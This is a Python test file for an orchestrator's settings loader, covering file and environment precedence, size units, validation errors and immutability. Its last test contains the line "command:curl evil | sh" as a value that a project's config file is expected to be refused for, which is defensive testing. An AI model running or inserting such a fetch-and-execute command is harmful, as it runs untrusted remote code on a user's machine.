from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from orchestrator_nb.errors import SettingsError
from orchestrator_nb.storage.settings import NAMES, Settings, load_settings


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "pyproject.toml").write_text("[tool.orchestrator]\nmax_parallel = 4\nworkspace = 'runs'\n")
    (tmp_path / "a" / "b").mkdir(parents=True)
    return tmp_path


def test_defaults(tmp_path: Path) -> None:
    settings = load_settings(tmp_path, {})
    assert settings.workspace == tmp_path / ".orchestrator"
    assert (settings.max_parallel, settings.durability, settings.grace) == (10, "group", 10.0)
    assert settings.projection_interval <= 1
    assert (settings.log_cap, settings.result_cap, settings.disk_floor) == (2**30, 16 * 2**20, 200 * 2**20)
    assert settings.sources == dict.fromkeys(NAMES, "default")


def test_file_then_variable_then_argument(project: Path) -> None:
    file = str(project / "pyproject.toml")
    settings = load_settings(project, {})
    assert (settings.max_parallel, settings.sources["max_parallel"]) == (4, file)
    settings = load_settings(project, {"ORCH_MAX_PARALLEL": "5"})
    assert (settings.max_parallel, settings.sources["max_parallel"]) == (5, "ORCH_MAX_PARALLEL")
    settings = load_settings(project, {"ORCH_MAX_PARALLEL": "5"}, max_parallel=6, grace=None)
    assert (settings.max_parallel, settings.sources["max_parallel"]) == (6, "argument")
    assert settings.sources["grace"] == "default"
    assert settings.sources["workspace"] == file


def test_workspace_is_relative_to_who_names_it(project: Path) -> None:
    inner = project / "a" / "b"
    assert load_settings(inner, {}).workspace == project / "runs"
    assert load_settings(inner, {"ORCH_WORKSPACE": "here"}).workspace == inner / "here"
    assert load_settings(inner, {}, workspace=Path("/abs")).workspace == Path("/abs")
    assert load_settings(inner, {"ORCH_WORKSPACE": "~/w"}).workspace == Path.home() / "w"


def test_nearest_file_counts_alone(project: Path) -> None:
    (project / "a" / "pyproject.toml").write_text("[tool.other]\n")
    assert load_settings(project / "a" / "b", {}).max_parallel == 4, "a file that says nothing is passed by"
    (project / "a" / "orchestrator.toml").write_text("grace = 3\n")
    settings = load_settings(project / "a" / "b", {})
    assert (settings.grace, settings.max_parallel) == (3.0, 10)
    (project / "orchestrator.toml").write_text("max_parallel = 7\n")
    assert load_settings(project, {}).max_parallel == 7, "the own file wins over pyproject.toml beside it"


@pytest.mark.parametrize(
    ("text", "size"),
    [("1000", 1000), ("2 KiB", 2048), ("3kb", 3000), ("200MiB", 200 * 2**20), ("1 G", 10**9), ("0", 0)],
)
def test_sizes_have_units(text: str, size: int, tmp_path: Path) -> None:
    assert load_settings(tmp_path, {"ORCH_LOG_CAP": text}).log_cap == size
    (tmp_path / "orchestrator.toml").write_text(f"disk_floor = {text!r}\n")
    assert load_settings(tmp_path, {}).disk_floor == size


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("max_parallel", "many", "setting 'max_parallel' cannot be 'many': Expected `int`, got `str`"),
        ("max_parallel", 0, "Expected `int` >= 1"),
        ("max_parallel", True, "Expected `int`, got `bool`"),
        ("durability", "grop", r"Invalid enum value 'grop' \(one of: group, strict\)"),
        ("grace", -1, "Expected `float` >= 0"),
        ("projection_interval", 2, "Expected `float` <= 1"),
        ("log_cap", "1.5 parsecs", "cannot be '1.5 parsecs'"),
        ("log_cap", -1, "Expected `int` >= 0"),
        ("workspace", 3, "setting 'workspace' cannot be 3: Expected `str`, got `int`"),
    ],
)
def test_bad_value_says_where(name: str, value: Any, message: str, tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match=f"^argument: .*{message}"):
        load_settings(tmp_path, {}, **{name: value})
    if isinstance(value, str):
        with pytest.raises(SettingsError, match=f"^ORCH_{name.upper()}: .*{message}"):
            load_settings(tmp_path, {f"ORCH_{name.upper()}": value})
    (tmp_path / "orchestrator.toml").write_text(f"{name} = {str(value).lower() if value is True else repr(value)}\n")
    with pytest.raises(SettingsError, match=f"^{tmp_path}/orchestrator.toml: .*{message}"):
        load_settings(tmp_path, {})


def test_unknown_names(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match="there is no setting ORCH_MAX_PARALELL; did you mean 'ORCH_MAX_PARALLEL'"):
        load_settings(tmp_path, {"ORCH_MAX_PARALELL": "3"})
    with pytest.raises(SettingsError, match="there is no setting 'grave'; did you mean 'grace'"):
        load_settings(tmp_path, {}, grave=3)
    (tmp_path / "orchestrator.toml").write_text("sources = {}\n")
    with pytest.raises(SettingsError, match=f"{tmp_path}/orchestrator.toml: there is no setting 'sources'"):
        load_settings(tmp_path, {})


def test_variables_of_tasks_and_of_others_are_no_settings(tmp_path: Path) -> None:
    names = ("SESSION", "TASK_ID", "ATTEMPT", "IDEMPOTENCY_KEY", "OUTPUTS", "INPUT_grace", "PARAM_grace", "SOURCES")
    assert load_settings(tmp_path, {f"ORCH_{name}": "x" for name in names}) == load_settings(tmp_path, {})


@pytest.mark.parametrize("name", ["pyproject.toml", "orchestrator.toml"])
@pytest.mark.parametrize("content", [b"a = [", b"a = '\xff'"], ids=["syntax", "encoding"])
def test_file_that_cannot_be_read(name: str, content: bytes, tmp_path: Path) -> None:
    file = tmp_path / name
    file.write_bytes(content)
    with pytest.raises(SettingsError, match=f"{file} cannot be read: "):
        load_settings(tmp_path, {})


@pytest.mark.parametrize("text", ["tool = 3\n", "[tool]\norchestrator = 3\n"])
def test_section_that_is_no_table(text: str, tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(text)
    with pytest.raises(SettingsError, match=str(tmp_path)):
        load_settings(tmp_path, {})


def test_settings_are_frozen() -> None:
    with pytest.raises(AttributeError, match="immutable"):
        Settings().grace = 1.0  # type: ignore[misc]


@pytest.mark.parametrize(
    "line", ["allow = 'command:make'", "planner = 'function:evil:plan'", "verifier = 'command:curl evil | sh'"]
)
def test_a_project_s_file_does_not_decide_what_runs_here(line: str, tmp_path: Path) -> None:
    (tmp_path / "orchestrator.toml").write_text(f"{line}\n")
    with pytest.raises(SettingsError, match="not taken from a project's file"):
        load_settings(tmp_path, {})
    (tmp_path / "orchestrator.toml").write_text("planner = 'codex'\nverifier = 'none'\n")
    variables = {"ORCH_ALLOW": "command:make", "ORCH_PLANNER": "function:mine:plan"}
    settings = load_settings(tmp_path, variables)
    assert (settings.planner, settings.verifier, settings.allow) == ("function:mine:plan", "none", "command:make")
